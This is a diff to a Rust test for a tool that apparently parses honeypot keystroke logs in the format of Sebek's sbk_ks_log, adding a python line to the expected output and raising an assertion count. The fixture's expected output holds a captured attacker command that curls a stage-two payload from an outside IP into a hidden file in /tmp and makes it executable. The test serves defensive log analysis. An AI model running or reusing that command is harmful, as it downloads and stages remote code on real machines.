@@ -594,7 +594,8 @@ fn records_cut_by_the_snaplen_keep_their_headers_and_are_marked_truncated() {
 /// that read, the uids and commands seen on the line (lumpy: in the order
 /// first seen; the script: in Perl hash order), `[BS]` for 0x7f and drops
 /// the other control bytes. A pasted read of 85 bytes is whole, beyond the
-/// 59 bytes of hflow2's `sys_read.data`.
+/// 59 bytes of hflow2's `sys_read.data`, and each line names the commands
+/// its own reads carried (before and after an exec in one process).
 #[test]
 fn keystrokes_print_what_sbk_ks_log_prints() {
     let (d, data) = new_node(78);
@@ -630,6 +631,9 @@ fn keystrokes_print_what_sbk_ks_log_prints() {
         format!(
             "[2011-03-13 06:39:53 {h} UID:0 PID:3002 FD:0 INO:100 COM:sshd/bash ]#curl -s http://203.0.113.66/stage2/payload-x86_64.bin -o /tmp/.x && chmod +x /tmp/.x"
         ),
+        // After the exec the same pid's reads carry python: each line names
+        // the commands of its own reads.
+        format!("[2011-03-13 06:39:53 {h} UID:0 PID:3002 FD:0 INO:100 COM:python ]#print(1)"),
     ];
     let lines = |args: &[&str]| -> Vec<String> {
         let mut all = vec!["keystrokes", "--data", &data];
@@ -647,7 +651,7 @@ fn keystrokes_print_what_sbk_ks_log_prints() {
             .as_str()
         )
     );
-    assert_eq!(cooked.len(), 8, "{cooked:?}");
+    assert_eq!(cooked.len(), 9, "{cooked:?}");
     assert!(lines(&["--host", "10.0.0.6"]).is_empty());
     // Filters: the process of wget, then one sensor that has nothing.
     assert_eq!(lines(&["--process", "4"]), sbk[1..2]);
